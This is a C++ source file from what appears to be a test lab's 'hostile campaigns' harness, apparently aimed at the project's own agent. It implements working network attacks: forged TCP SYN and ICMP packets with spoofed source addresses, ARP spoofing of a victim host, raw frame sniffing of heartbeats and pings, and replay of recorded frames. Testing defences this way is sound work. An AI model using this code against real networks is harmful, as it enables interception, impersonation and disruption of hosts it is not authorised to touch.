#include "lab/campaigns/hostile/Frames.h"

#include <algorithm>
#include <cstring>
#include <functional>
#include <optional>
#include <thread>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "lab/core/Wait.h"

namespace velarix::lab::hostile
{

namespace
{

struct SynPacket
{
	iphdr internet{};
	tcphdr transport{};
};

struct IcmpPacket
{
	iphdr internet{};
	icmphdr message{};
	std::array<std::uint8_t, 40> data{}; ///< as long as the agent's pings
};

/// What the checksum of TCP covers besides the segment.
struct PseudoHeader
{
	in_addr_t from = 0;
	in_addr_t to = 0;
	std::uint8_t zero = 0;
	std::uint8_t protocol = IPPROTO_TCP;
	std::uint16_t length = 0;
	tcphdr transport{};
};

/// @param size  even
std::uint16_t checksum(const void* covered, std::size_t size)
{
	std::uint32_t sum = 0;
	for (std::size_t at = 0; at < size; at += sizeof(std::uint16_t))
	{
		std::uint16_t word = 0;
		std::memcpy(&word, static_cast<const char*>(covered) + at, sizeof word);
		sum += word;
	}
	sum = (sum >> 16U) + (sum & 0xffffU);
	sum += sum >> 16U;
	return static_cast<std::uint16_t>(~sum);
}

/// The kernel adds length and checksum.
iphdr internetHeader(std::uint8_t protocol, in_addr_t to, in_addr_t from)
{
	iphdr header{};
	header.version = 4;
	header.ihl = sizeof(iphdr) / 4;
	header.ttl = 64;
	header.protocol = protocol;
	header.saddr = from;
	header.daddr = to;
	return header;
}

struct ArpFrame
{
	ether_header ethernet{};
	arphdr head{};
	std::array<std::uint8_t, 6> senderHardware{};
	std::array<std::uint8_t, 4> sender{};
	std::array<std::uint8_t, 6> targetHardware{};
	std::array<std::uint8_t, 4> target{};
} __attribute__((packed));

std::array<std::uint8_t, 4> bytesOf(const std::string& address)
{
	std::array<std::uint8_t, 4> bytes{};
	::inet_pton(AF_INET, address.c_str(), bytes.data());
	return bytes;
}

/// @return what is behind the IPv4 header; empty for another protocol or sender
std::string segmentOf(const std::string& frame, std::uint8_t protocol, const std::string& from)
{
	constexpr std::size_t internetAt = sizeof(ether_header);
	if (frame.size() < internetAt + sizeof(iphdr) || static_cast<std::uint8_t>(frame[internetAt + 9]) != protocol ||
	    std::memcmp(frame.data() + internetAt + 12, bytesOf(from).data(), 4) != 0)
	{
		return {};
	}
	const std::size_t begin = internetAt + static_cast<std::size_t>(frame[internetAt] & 15) * 4;
	return begin < frame.size() ? frame.substr(begin) : std::string();
}

std::string payloadOf(const std::string& segment)
{
	if (segment.size() < sizeof(tcphdr))
	{
		return {};
	}
	const std::size_t begin = static_cast<std::size_t>((segment[12] >> 4) & 15) * 4;
	return begin < segment.size() ? segment.substr(begin) : std::string();
}

/// Reads the frames of an interface until `wanted` is content with one.
bool capture(const std::string& interface, Millis limit, const std::function<bool(const std::string& frame)>& wanted)
{
	const Descriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)));
	sockaddr_ll place{};
	place.sll_family = AF_PACKET;
	place.sll_protocol = htons(ETH_P_ALL);
	place.sll_ifindex = static_cast<int>(::if_nametoindex(interface.c_str()));
	if (!socket || ::bind(socket.get(), reinterpret_cast<const sockaddr*>(&place), sizeof place) != 0)
	{
		throwErrno("no frames can be captured on " + interface);
	}
	const LabClock clock;
	while (clock.now() < limit)
	{
		pollfd watched{socket.get(), POLLIN, 0};
		if (::poll(&watched, 1, 100) != 1)
		{
			continue;
		}
		std::string frame(2048, '\0');
		const ssize_t count = ::recv(socket.get(), frame.data(), frame.size(), MSG_DONTWAIT);
		frame.resize(count > 0 ? static_cast<std::size_t>(count) : 0);
		if (wanted(frame))
		{
			return true;
		}
	}
	return false;
}

using HardwareAddress = std::array<std::uint8_t, 6>;

/// Makes the kernel ask for the address, and reads its ARP cache.
std::optional<HardwareAddress> hardwareOf(const std::string& interface, const std::string& address)
{
	const Descriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
	const sockaddr_in to = socketAddress(address, 9);
	::sendto(socket.get(), "", 0, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
	HardwareAddress found{};
	const bool answered = waitFor(
	    [&]
	    {
		    arpreq asked{};
		    std::memcpy(&asked.arp_pa, &to, sizeof to);
		    std::strncpy(asked.arp_dev, interface.c_str(), sizeof asked.arp_dev - 1);
		    const bool known = ::ioctl(socket.get(), SIOCGARP, &asked) == 0 && (asked.arp_flags & ATF_COM) != 0;
		    std::memcpy(found.data(), asked.arp_ha.sa_data, found.size());
		    return known;
	    },
	    Millis(5000), "an answer about " + address);
	return answered ? std::optional(found) : std::nullopt;
}

} // namespace

RawSender::RawSender() : m_socket(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW))
{
	if (!m_socket)
	{
		throwErrno("no raw socket");
	}
}

void RawSender::send(const void* packet, std::size_t size, in_addr_t to, AttackTally& tally)
{
	sockaddr_in address{};
	address.sin_family = AF_INET;
	address.sin_addr.s_addr = to;
	::sendto(m_socket.get(), packet, size, 0, reinterpret_cast<const sockaddr*>(&address), sizeof address);
	++tally.tries;
}

void RawSender::sendSyn(const sockaddr_in& to, const sockaddr_in& from, AttackTally& tally)
{
	SynPacket packet;
	packet.internet = internetHeader(IPPROTO_TCP, to.sin_addr.s_addr, from.sin_addr.s_addr);
	packet.transport.th_sport = from.sin_port;
	packet.transport.th_dport = to.sin_port;
	packet.transport.th_seq = htonl(static_cast<std::uint32_t>(tally.tries.load()) * 2654435761U);
	packet.transport.th_off = sizeof(tcphdr) / 4;
	packet.transport.th_flags = TH_SYN;
	packet.transport.th_win = htons(1024);
	PseudoHeader covered;
	covered.from = packet.internet.saddr;
	covered.to = packet.internet.daddr;
	covered.length = htons(sizeof(tcphdr));
	covered.transport = packet.transport;
	packet.transport.th_sum = checksum(&covered, sizeof covered);
	send(&packet, sizeof packet, packet.internet.daddr, tally);
}

void RawSender::sendIcmp(const std::string& to, const std::string& from, std::uint8_t type, std::uint16_t id,
                         AttackTally& tally)
{
	IcmpPacket packet;
	packet.internet =
	    internetHeader(IPPROTO_ICMP, socketAddress(to, 0).sin_addr.s_addr, socketAddress(from, 0).sin_addr.s_addr);
	packet.message.type = type;
	packet.message.un.echo.id = id;
	packet.message.checksum = checksum(&packet.message, sizeof packet.message + packet.data.size());
	send(&packet, sizeof packet, packet.internet.daddr, tally);
}

ArpSpoofer::ArpSpoofer(const std::string& interface, const std::string& victim)
    : m_socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0)),
      m_index(static_cast<int>(::if_nametoindex(interface.c_str()))), m_victim(victim)
{
	ifreq asked{};
	std::strncpy(asked.ifr_name, interface.c_str(), IFNAMSIZ - 1);
	if (!m_socket || ::ioctl(m_socket.get(), SIOCGIFHWADDR, &asked) != 0)
	{
		throwErrno("no frames can be sent on " + interface);
	}
	std::memcpy(m_own.data(), asked.ifr_hwaddr.sa_data, m_own.size());
	const std::optional<HardwareAddress> found = hardwareOf(interface, victim);
	if (!found)
	{
		throw LabError("no host answers for " + victim);
	}
	m_theirs = *found;
}

void ArpSpoofer::claim(const std::string& address, AttackTally& tally)
{
	ArpFrame frame;
	std::memcpy(frame.ethernet.ether_dhost, m_theirs.data(), m_theirs.size());
	std::memcpy(frame.ethernet.ether_shost, m_own.data(), m_own.size());
	frame.ethernet.ether_type = htons(ETHERTYPE_ARP);
	frame.head.ar_hrd = htons(ARPHRD_ETHER);
	frame.head.ar_pro = htons(ETHERTYPE_IP);
	frame.head.ar_hln = 6;
	frame.head.ar_pln = 4;
	frame.head.ar_op = htons(ARPOP_REPLY);
	frame.senderHardware = m_own;
	frame.sender = bytesOf(address);
	frame.targetHardware = m_theirs;
	frame.target = bytesOf(m_victim);
	sockaddr_ll to{};
	to.sll_family = AF_PACKET;
	to.sll_ifindex = m_index;
	to.sll_halen = static_cast<unsigned char>(m_theirs.size());
	std::memcpy(to.sll_addr, m_theirs.data(), m_theirs.size());
	::sendto(m_socket.get(), &frame, sizeof frame, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
	++tally.tries;
}

std::string captureHeartbeat(const std::string& interface, const std::string& from, Millis limit)
{
	std::string payload;
	capture(interface, limit,
	        [&](const std::string& frame)
	        {
		        payload = payloadOf(segmentOf(frame, IPPROTO_TCP, from));
		        return payload.starts_with("/process/");
	        });
	return payload.starts_with("/process/") ? payload : std::string();
}

std::vector<std::string> recordFrames(const std::string& interface, Millis span)
{
	std::string own(6, '\0');
	const Descriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
	ifreq asked{};
	std::strncpy(asked.ifr_name, interface.c_str(), IFNAMSIZ - 1);
	::ioctl(socket.get(), SIOCGIFHWADDR, &asked);
	std::memcpy(own.data(), asked.ifr_hwaddr.sa_data, own.size());
	std::vector<std::string> frames;
	capture(interface, span,
	        [&](const std::string& frame)
	        {
		        if (frame.starts_with(own) && frame.substr(12, 2) == std::string("\x08\x00", 2))
		        {
			        frames.push_back(frame);
		        }
		        return false;
	        });
	return frames;
}

void replayFrames(const std::string& interface, const std::vector<std::string>& frames, const std::atomic<bool>& stop,
                  AttackTally& tally)
{
	const Descriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
	sockaddr_ll place{};
	place.sll_family = AF_PACKET;
	place.sll_ifindex = static_cast<int>(::if_nametoindex(interface.c_str()));
	if (!socket || frames.empty())
	{
		throw LabError("there is nothing to replay on " + interface);
	}
	while (!stop)
	{
		for (std::string frame : frames)
		{
			// The sender's hardware address is another one: the bridge goes on knowing where it is.
			frame[11] = static_cast<char>(frame[11] + 64);
			::sendto(socket.get(), frame.data(), frame.size(), 0, reinterpret_cast<const sockaddr*>(&place),
			         sizeof place);
			++tally.tries;
		}
		std::this_thread::sleep_for(Millis(50));
	}
}

std::optional<std::uint16_t> capturePing(const std::string& interface, const std::string& from, Millis limit)
{
	icmphdr message{};
	const bool found = capture(interface, limit,
	                           [&](const std::string& frame)
	                           {
		                           const std::string segment = segmentOf(frame, IPPROTO_ICMP, from);
		                           std::memcpy(&message, segment.data(), std::min(segment.size(), sizeof message));
		                           return segment.size() >= sizeof message && message.type == ICMP_ECHO;
	                           });
	return found ? std::optional(message.un.echo.id) : std::nullopt;
}

} // namespace velarix::lab::hostile
